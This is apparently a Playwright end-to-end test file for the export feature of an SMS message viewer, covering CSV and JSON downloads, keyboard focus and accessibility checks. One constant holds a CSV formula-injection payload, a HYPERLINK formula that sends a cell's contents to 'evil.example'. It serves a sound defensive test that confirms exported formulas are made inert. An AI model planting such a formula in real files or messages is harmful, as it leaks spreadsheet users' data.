/**
 * Export in a real browser: the files Chromium saves (name, bytes, rows read back as a spreadsheet or a
 * program would), the dialog from the keyboard with visible focus, Bootstrap's modal styles surviving the
 * build's unused-CSS removal, and axe with the dialog open.
 */
import { readFile } from 'node:fs/promises';
import type { Download, Page } from '@playwright/test';
import { DEMO_CONTACTS, DEMO_SHOP_NUMBER } from '../emulator/src/core/seed';
import { parseCsv } from '../src/test/csv';
import type { EmulatorControl } from '../emulator/src/node/controlClient';
import {
  appUrl,
  DEMO_ACCOUNT,
  expect,
  expectNoA11yViolations,
  pressWithVisibleFocus,
  startSignedIn,
  switchSystemColorScheme,
  test,
} from './support/fixtures';

const HOSTILE_BODY = '=HYPERLINK("https://evil.example/?"&A1,"Open, now")\nsecond line';

/**
 * The shop number's panel, opened from its address (as a bookmark does), once its list has loaded. The
 * list holds every message the emulator has for it: the demo seed is well within the first pages.
 */
async function openShop(page: Page): Promise<void> {
  await startSignedIn(page);
  await page.goto(appUrl(`/phone-numbers?number=${encodeURIComponent(DEMO_SHOP_NUMBER)}`));
  await expect(page.getByRole('list', { name: /^Messages from and to / })).toBeVisible();
}

/** The ids of every message from or to `phoneNumber` that the emulator holds, sorted (the file's order is checked apart). */
async function storedSids(emulator: EmulatorControl, phoneNumber: string): Promise<string[]> {
  const messages = await emulator.messages(DEMO_ACCOUNT.accountSid);
  return messages
    .filter((message) => message.from === phoneNumber || message.to === phoneNumber)
    .map((message) => message.sid)
    .sort();
}

/** Newest first, as the list shows them: each date no later than the one before. */
function expectNewestFirst(dates: readonly (string | null | undefined)[]): void {
  const times = dates.map((date) => Date.parse(date ?? ''));
  expect(times.every((time) => Number.isFinite(time))).toBe(true);
  expect(times.every((time, index) => index === 0 || time <= (times[index - 1] ?? time))).toBe(true);
}

/** Today on the page's calendar (the browser's time zone), as the file names write it. */
function pageToday(page: Page): Promise<string> {
  return page.evaluate(() => {
    const now = new Date();
    return [now.getFullYear(), now.getMonth() + 1, now.getDate()]
      .map((n) => String(n).padStart(2, '0'))
      .join('-');
  });
}

/** What `act` makes the browser save. */
async function download(page: Page, act: () => Promise<void>): Promise<{ name: string; bytes: Buffer }> {
  const saved: Promise<Download> = page.waitForEvent('download');
  await act();
  const file = await saved;
  const path = await file.path();
  return { name: file.suggestedFilename(), bytes: await readFile(path) };
}

test.describe('export', () => {
  test('CSV of the number’s list: a row per message, newest first, formulas inert, non-ASCII kept', async ({
    page,
    emulator,
  }) => {
    await emulator.deliverInbound({ from: DEMO_CONTACTS.maya, to: DEMO_SHOP_NUMBER, body: HOSTILE_BODY });
    await openShop(page);
    const sids = await storedSids(emulator, DEMO_SHOP_NUMBER);

    await page.getByRole('button', { name: 'Export' }).click();
    const file = await download(page, () =>
      page.getByRole('button', { name: `Export ${sids.length} messages as CSV` }).click(),
    );

    expect(file.name).toBe(`messages-14155550100-${await pageToday(page)}.csv`);
    expect([...file.bytes.subarray(0, 3)], 'UTF-8 byte order mark').toEqual([0xef, 0xbb, 0xbf]);
    const text = file.bytes.toString('utf8').slice(1);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([
      'sid',
      'date_created',
      'date_sent',
      'direction',
      'from',
      'to',
      'status',
      'body',
      'num_media',
      'num_segments',
      'price',
      'price_unit',
      'error_code',
      'error_message',
      'from_name',
      'to_name',
    ]);
    expect(rows.map((row) => row[0]).sort()).toEqual(sids);
    expectNewestFirst(rows.map((row) => row[1]));
    const bodies = rows.map((row) => row[7]);
    expect(bodies).toContain(`'${HOSTILE_BODY}`);
    expect(bodies).toContain('Ça marche, à demain ! 🥐');
    expect(bodies).toContain('了解です！🙏 写真を送ります。');
    expect(rows.every((row) => row[4]?.startsWith("'+") && row[5]?.startsWith("'+"))).toBe(true);
    expect(rows.every((row) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/.test(row[1] ?? ''))).toBe(true);
    // Every record ends with CRLF; the body's own line break stays inside its quoted field.
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(rows.length + 2);
  });

  test('JSON from the keyboard: Enter opens, Tab moves with visible focus, Enter saves', async ({
    page,
    emulator,
  }) => {
    await emulator.deliverInbound({ from: DEMO_CONTACTS.maya, to: DEMO_SHOP_NUMBER, body: HOSTILE_BODY });
    await openShop(page);
    const sids = await storedSids(emulator, DEMO_SHOP_NUMBER);
    const toggle = page.getByRole('button', { name: 'Export' });
    await toggle.focus();

    // The dialog itself takes the focus as it opens (no ring on its frame); Tab goes on from there.
    await page.keyboard.press('Enter');
    const dialog = page.getByRole('dialog', { name: `Export ${sids.length} messages` });
    await expect(dialog).toBeVisible();
    const json = dialog.getByRole('button', { name: `Export ${sids.length} messages as JSON` });
    // Close, CSV, then JSON: the dialog keeps the focus inside it.
    for (let step = 0; step < 3; step++) await pressWithVisibleFocus(page, 'Tab');
    await expect(json).toBeFocused();
    const file = await download(page, () => page.keyboard.press('Enter'));

    await expect(dialog).toBeHidden();
    await expect(toggle).toBeFocused();
    expect(file.name).toBe(`messages-14155550100-${await pageToday(page)}.json`);
    const records = JSON.parse(file.bytes.toString('utf8')) as {
      sid: string;
      date_created: string;
      body: string;
      from: string;
    }[];
    expect(records.map((record) => record.sid).sort()).toEqual(sids);
    expectNewestFirst(records.map((record) => record.date_created));
    // Raw values for programs: no spreadsheet quote on the formula or on numbers.
    expect(records.map((record) => record.body)).toContain(HOSTILE_BODY);
    expect(records.every((record) => record.from.startsWith('+'))).toBe(true);
  });

  test('All numbers: the file holds what the list shows, from every number, newest first', async ({
    page,
    emulator,
  }) => {
    await startSignedIn(page);
    await page.goto(appUrl('/phone-numbers'));
    await page.getByRole('button', { name: /^All numbers/ }).click();
    await expect(page.getByRole('list', { name: 'Messages from and to all numbers' })).toBeVisible();

    await page.getByRole('button', { name: 'Export' }).click();
    const item = page.getByRole('button', { name: /^Export \d+ messages as JSON$/ });
    const shown = Number(/\d+/.exec((await item.getAttribute('aria-label')) ?? '')?.[0]);
    const file = await download(page, () => item.click());

    expect(file.name).toBe(`messages-all-numbers-${await pageToday(page)}.json`);
    const records = JSON.parse(file.bytes.toString('utf8')) as { sid: string; date_created: string }[];
    expect(records).toHaveLength(shown);
    expect(shown).toBeGreaterThan(0);
    const stored = new Set((await emulator.messages(DEMO_ACCOUNT.accountSid)).map((message) => message.sid));
    expect(records.every((record) => stored.has(record.sid))).toBe(true);
    expectNewestFirst(records.map((record) => record.date_created));
  });

  test('axe finds nothing with the dialog open, light and dark, and Escape closes it', async ({ page }) => {
    await openShop(page);
    const toggle = page.getByRole('button', { name: 'Export' });
    await toggle.click();
    const dialog = page.getByRole('dialog');
    await expect(dialog.getByRole('button', { name: /^Export \d+ messages as / })).toHaveCount(2);
    await expect(dialog).toBeVisible();

    await expectNoA11yViolations(page, 'export dialog open');
    // The dialog's colours are Bootstrap's variables: the system's dark scheme must read as well.
    await switchSystemColorScheme(page, 'dark');
    await expect(dialog).toBeVisible();
    await expectNoA11yViolations(page, 'export dialog open, dark');

    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
    await expect(toggle).toBeFocused();
  });
});
